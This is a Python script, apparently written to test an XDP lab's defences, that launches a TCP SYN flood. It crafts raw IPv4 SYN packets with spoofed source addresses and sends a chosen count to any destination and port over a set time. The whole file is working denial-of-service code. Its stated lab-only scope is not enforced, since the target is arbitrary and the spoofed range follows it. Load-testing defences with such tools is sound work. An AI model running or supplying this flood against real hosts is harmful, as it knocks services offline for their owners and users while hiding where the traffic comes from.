"""A SYN flood for the XDP lab: COUNT TCP SYNs to DST:PORT over SECONDS, from raw IPv4 packets whose source
addresses are spoofed within the lab's own /24 (hosts .10 to .250, none of which exists), so the SYN-ACKs go
nowhere and every SYN leaves a half-open connection behind. Root, in the lab's client namespace only.

  synflood.py DST PORT COUNT SECONDS

Prints the number of SYNs sent.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in the IP checksum (and the id, left 0) for IP_HDRINCL sockets.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def main():
    dst, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    net = dst.rsplit(".", 1)[0]
    d = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rnd = random.Random(4242)
    batches = max(1, int(seconds * 20))
    per = -(-count // batches)
    sent = 0
    start = time.monotonic()
    for b in range(batches):
        for _ in range(min(per, count - sent)):
            src = socket.inet_aton("%s.%d" % (net, rnd.randint(10, 250)))
            pkt = syn(src, d, rnd.randint(1024, 65535), port, rnd.getrandbits(32))
            try:
                s.sendto(pkt, (dst, 0))
                sent += 1
            except BlockingIOError:
                time.sleep(0.001)
        pause = start + (b + 1) * seconds / batches - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    print(sent)


if __name__ == "__main__":
    main()
